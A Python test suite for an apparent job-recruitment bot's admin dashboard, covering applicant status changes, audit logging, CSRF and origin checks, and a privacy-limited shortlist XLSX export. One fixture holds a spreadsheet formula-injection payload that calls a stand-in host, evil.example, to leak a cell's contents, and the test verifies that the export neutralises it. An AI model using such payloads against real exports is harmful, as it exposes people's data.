"""An opening's page with its job alerts and applicants: the applicants' workflow and the employer's shortlist."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.applications import ApplicationStore
from bot.models import AlertDelivery, Application, ApplicationEvent, JobOpening, Lead, StaffAuditEntry
from bot.repository import Repository
from tests.test_dashboard import EMAIL, ORIGIN, Dashboard, csrf_from, login, open_dashboard, seeded_dashboard

PHONE_DIGITS = "3001234567"  # every seeded lead's phone is +923001234567
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def dashboard(tmp_path: Path) -> AsyncIterator[Dashboard]:
    async with open_dashboard(tmp_path) as opened:
        yield opened


async def seed_applications(repository: Repository) -> tuple[int, dict[str, int]]:
    """A published IT opening with alerts in every state; the seeded senders 1-3 (Ali, Sara, Bilal) applied."""
    async with repository.session() as session:
        opening = JobOpening(
            title="Developer", employer="Tokyo Soft", field="it", japanese_level="none", location="Tokyo"
        )
        opening.status = "published"
        session.add(opening)
        await session.flush()
        opening_id = opening.id
        for sender, status, response in [
            ("1", "sent", "interested"),
            ("2", "sent", "interested"),
            ("3", "sent", "not_for_me"),
            ("4", "sent", ""),
            ("5", "pending", ""),
            ("6", "failed", ""),
            ("7", "blocked", ""),
            ("8", "skipped", ""),
            ("9", "skipped", ""),
        ]:
            session.add(AlertDelivery(opening_id=opening_id, sender_id=sender, status=status, response=response))
    store = ApplicationStore(repository)
    ids = {}
    for sender, name in [("1", "Ali Raza"), ("2", "Sara Khan"), ("3", "Bilal Ahmed")]:
        applied = await store.apply(sender, opening_id)
        assert applied is not None and applied.created
        ids[name] = applied.application_id
    return opening_id, ids


async def move(
    client: httpx.AsyncClient, opening_id: int, application_id: int, status: str, note: str = ""
) -> httpx.Response:
    token = await csrf_from(client, f"/admin/job-opening/details/{opening_id}")
    return await client.post(
        f"/admin/applications/{application_id}/status",
        data={"csrf_token": token, "status": status, "note": note},
        headers={"Origin": ORIGIN},
    )


async def status_of(repository: Repository, application_id: int) -> str | None:
    async with repository.session() as session:
        return await session.scalar(select(Application.status).where(Application.id == application_id))


def progress_numbers(page: str) -> dict[str, int]:
    return {key: int(value) for key, value in re.findall(r'id="progress-(\w+)">(\d+)<', page)}


async def test_the_opening_page_shows_alert_progress_and_applicants(dashboard: Dashboard) -> None:
    opening_id, ids = await seed_applications(dashboard.repository)
    await login(dashboard.client)
    page = (await dashboard.client.get(f"/admin/job-opening/details/{opening_id}")).text
    assert 'id="alert-progress"' in page
    assert progress_numbers(page) == {
        "sent": 4,
        "pending": 1,
        "failed": 1,
        "blocked": 1,
        "skipped": 2,
        "interested": 2,
        "not_for_me": 1,
        "applications": 3,
    }
    assert "Applicants (3)" in page
    async with dashboard.repository.session() as session:
        ali = await session.scalar(select(Lead.id).where(Lead.full_name == "Ali Raza"))
    row = page.split(f'id="applicant-{ids["Ali Raza"]}"', 1)[1].split("</tr>", 1)[0]
    assert f'/admin/lead/details/{ali}">Ali Raza</a>' in row
    assert "IT degree, 2 years&#39; experience, Lahore" in row  # why the applicant fits
    assert "user: — → applied" in row  # the history starts with the user's "I'm interested"
    options = re.findall(r'<option value="(\w+)"', row)
    assert options == ["shortlisted", "not_selected"]  # only the allowed next steps
    assert f'/admin/openings/{opening_id}/shortlist.xlsx">Export shortlist (XLSX)</a>' in page
    assert "+92300" not in page.split('id="applicants"', 1)[1].split("</table>", 1)[0]  # no phone in the table


async def test_a_status_change_with_a_note_is_kept_with_who_and_shown(dashboard: Dashboard) -> None:
    opening_id, ids = await seed_applications(dashboard.repository)
    await login(dashboard.client)
    moved = await move(dashboard.client, opening_id, ids["Sara Khan"], "shortlisted", "Strong portfolio")
    assert moved.status_code == 303
    assert moved.headers["location"].endswith(f"/admin/job-opening/details/{opening_id}#applicant-{ids['Sara Khan']}")
    assert await status_of(dashboard.repository, ids["Sara Khan"]) == "shortlisted"
    async with dashboard.repository.session() as session:
        event = await session.scalar(
            select(ApplicationEvent)
            .where(ApplicationEvent.application_id == ids["Sara Khan"])
            .order_by(ApplicationEvent.id.desc())
        )
        audit = await session.scalar(select(StaffAuditEntry).where(StaffAuditEntry.action == "application_status"))
    assert event is not None and (event.actor, event.from_status, event.to_status, event.note) == (
        EMAIL,
        "applied",
        "shortlisted",
        "Strong portfolio",
    )
    assert audit is not None and audit.actor == EMAIL and audit.target == f"application {ids['Sara Khan']}"
    assert audit.detail == f"applied → shortlisted; job-opening {opening_id}"
    page = (await dashboard.client.get(f"/admin/job-opening/details/{opening_id}")).text
    row = page.split(f'id="applicant-{ids["Sara Khan"]}"', 1)[1].split("</tr>", 1)[0]
    assert f"{EMAIL}: applied → shortlisted (Strong portfolio)" in row
    assert re.findall(r'<option value="(\w+)"', row) == ["interview", "not_selected"]
    # Steps without a note are fine until the decision, which needs one.
    assert (await move(dashboard.client, opening_id, ids["Sara Khan"], "interview")).status_code == 303
    assert (await move(dashboard.client, opening_id, ids["Sara Khan"], "selected")).status_code == 400
    done = await move(dashboard.client, opening_id, ids["Sara Khan"], "selected", "Offer accepted")
    assert done.status_code == 303 and await status_of(dashboard.repository, ids["Sara Khan"]) == "selected"
    page = (await dashboard.client.get(f"/admin/job-opening/details/{opening_id}")).text
    row = page.split(f'id="applicant-{ids["Sara Khan"]}"', 1)[1].split("</tr>", 1)[0]
    assert "Final" in row and "<form" not in row


@pytest.mark.parametrize(
    ("steps", "refused", "message"),
    [
        ([], ("selected", "Great"), "cannot be moved to “selected”. Allowed: “shortlisted”, “not selected”."),
        ([], ("not_selected", "  "), "Please write a note saying why the applicant is now “not selected”."),
        ([], ("shortlisted", "x" * 2001), "longer than 2000 characters"),
        ([], ("hired", "x"), "cannot be moved to “hired”"),
        ([("not_selected", "No passport yet")], ("shortlisted", "again"), "Allowed: none (the decision is final)."),
    ],
)
async def test_refused_changes_leave_the_application_as_it_was(
    dashboard: Dashboard, steps: list[tuple[str, str]], refused: tuple[str, str], message: str
) -> None:
    opening_id, ids = await seed_applications(dashboard.repository)
    await login(dashboard.client)
    for status, note in steps:
        assert (await move(dashboard.client, opening_id, ids["Ali Raza"], status, note)).status_code == 303
    response = await move(dashboard.client, opening_id, ids["Ali Raza"], *refused)
    assert response.status_code == 400 and message in response.text
    assert "Back to the opening" in response.text
    assert await status_of(dashboard.repository, ids["Ali Raza"]) == (steps[-1][0] if steps else "applied")
    async with dashboard.repository.session() as session:
        events = list(
            await session.scalars(select(ApplicationEvent).where(ApplicationEvent.application_id == ids["Ali Raza"]))
        )
    assert len(events) == 1 + len(steps)


async def test_unknown_applications_forged_posts_and_logged_out_visitors(dashboard: Dashboard) -> None:
    opening_id, ids = await seed_applications(dashboard.repository)
    # Logged out: the login page, for the change and for the shortlist alike.
    token = await csrf_from(dashboard.client, "/admin/login")
    anonymous = await dashboard.client.post(
        f"/admin/applications/{ids['Ali Raza']}/status",
        data={"csrf_token": token, "status": "shortlisted"},
        headers={"Origin": ORIGIN},
    )
    assert anonymous.status_code == 302 and anonymous.headers["location"].endswith("/admin/login")
    shortlist = await dashboard.client.get(f"/admin/openings/{opening_id}/shortlist.xlsx")
    assert shortlist.status_code == 302 and shortlist.headers["location"].endswith("/admin/login")
    await login(dashboard.client)
    no_token = await dashboard.client.post(
        f"/admin/applications/{ids['Ali Raza']}/status", data={"status": "shortlisted"}, headers={"Origin": ORIGIN}
    )
    assert no_token.status_code == 400
    token = await csrf_from(dashboard.client, f"/admin/job-opening/details/{opening_id}")
    cross_site = await dashboard.client.post(
        f"/admin/applications/{ids['Ali Raza']}/status",
        data={"csrf_token": token, "status": "shortlisted"},
        headers={"Origin": "https://evil.example"},
    )
    assert cross_site.status_code == 403
    assert await status_of(dashboard.repository, ids["Ali Raza"]) == "applied"
    missing = await move(dashboard.client, opening_id, 999_999, "shortlisted", "x")
    assert missing.status_code == 404
    assert (await dashboard.client.get("/admin/openings/999999/shortlist.xlsx")).status_code == 404


async def shortlist_of(client: httpx.AsyncClient, opening_id: int) -> tuple[list[list[object]], str]:
    """The shortlist's rows and every text part of the file (to search it for what must not be there)."""
    response = await client.get(f"/admin/openings/{opening_id}/shortlist.xlsx")
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/vnd.openxml")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        text = "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return [list(row) for row in sheet.iter_rows(values_only=True)], text


async def test_the_shortlist_holds_only_shortlisted_applicants_and_shared_fields(dashboard: Dashboard) -> None:
    opening_id, ids = await seed_applications(dashboard.repository)
    async with dashboard.repository.session() as session:
        await session.execute(update(Lead).where(Lead.full_name == "Ali Raza").values(full_name=HOSTILE_NAME))
        # Bilal agreed to share everything but his city.
        await session.execute(
            update(Application)
            .where(Application.id == ids["Bilal Ahmed"])
            .values(shared_fields=["full_name", "age", "education", "field", "japanese_level"])
        )
    await login(dashboard.client)
    assert (await move(dashboard.client, opening_id, ids["Ali Raza"], "shortlisted")).status_code == 303
    assert (await move(dashboard.client, opening_id, ids["Bilal Ahmed"], "shortlisted")).status_code == 303
    assert (await move(dashboard.client, opening_id, ids["Bilal Ahmed"], "interview")).status_code == 303
    assert (await move(dashboard.client, opening_id, ids["Sara Khan"], "not_selected", "No reply")).status_code == 303
    rows, text = await shortlist_of(dashboard.client, opening_id)
    assert rows[0] == [
        "Name",
        "Age",
        "City",
        "Education",
        "Field",
        "Japanese",
        "Experience (years)",
        "Passport",
        "Status",
    ]
    level = "JLPT N4 (old answer, pass not confirmed)"
    assert rows[1:] == [
        [HOSTILE_NAME, 25, "Lahore", "Bachelor's degree", "IT / software", level, 2, "Yes", "shortlisted"],
        ["Bilal Ahmed", 25, None, "Bachelor's degree", "IT / software", level, None, None, "interview"],
    ]
    assert PHONE_DIGITS not in text and "Sara Khan" not in text and "Telegram" not in text
    assert "<f>" not in text and "<f " not in text  # the "=HYPERLINK" name is text, not a formula
    async with dashboard.repository.session() as session:
        audit = await session.scalar(
            select(StaffAuditEntry).where(StaffAuditEntry.action == "export").order_by(StaffAuditEntry.id.desc())
        )
    assert audit is not None and audit.actor == EMAIL
    assert (audit.target, audit.detail) == (f"shortlist of job-opening {opening_id}", "2 rows")


async def test_applicants_on_postgresql(postgres_url: str, tmp_path: Path) -> None:
    app, repository = await seeded_dashboard(tmp_path, database_url=postgres_url)
    try:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=ORIGIN) as client:
            opening_id, ids = await seed_applications(repository)
            assert await ApplicationStore(repository).apply("1", opening_id) is not None  # again: the same one
            await login(client)
            page = (await client.get(f"/admin/job-opening/details/{opening_id}")).text
            assert progress_numbers(page)["applications"] == 3 and "Applicants (3)" in page
            assert (await move(client, opening_id, ids["Ali Raza"], "shortlisted", "Good N4")).status_code == 303
            assert (await move(client, opening_id, ids["Ali Raza"], "selected", "Skipping")).status_code == 400
            assert (await move(client, opening_id, ids["Sara Khan"], "not_selected")).status_code == 400
            page = (await client.get(f"/admin/job-opening/details/{opening_id}")).text
            assert f"{EMAIL}: applied → shortlisted (Good N4)" in page
            rows, text = await shortlist_of(client, opening_id)
            assert [row[0] for row in rows[1:]] == ["Ali Raza"] and PHONE_DIGITS not in text
    finally:
        await repository.dispose()


async def test_a_leads_page_lists_its_applications(dashboard: Dashboard) -> None:
    opening_id, _ = await seed_applications(dashboard.repository)
    await login(dashboard.client)
    async with dashboard.repository.session() as session:
        ali = await session.scalar(select(Lead.id).where(Lead.full_name == "Ali Raza"))
        hina = await session.scalar(select(Lead.id).where(Lead.full_name == "Hina Iqbal"))
    page = (await dashboard.client.get(f"/admin/lead/details/{ali}")).text
    table = page[page.index('id="lead-applications"') : page.index("</table>", page.index('id="lead-applications"'))]
    assert "Developer" in table and "Tokyo Soft" in table and "applied" in table
    assert f"/admin/job-opening/details/{opening_id}" in table
    none = (await dashboard.client.get(f"/admin/lead/details/{hina}")).text
    assert "No application yet" in none
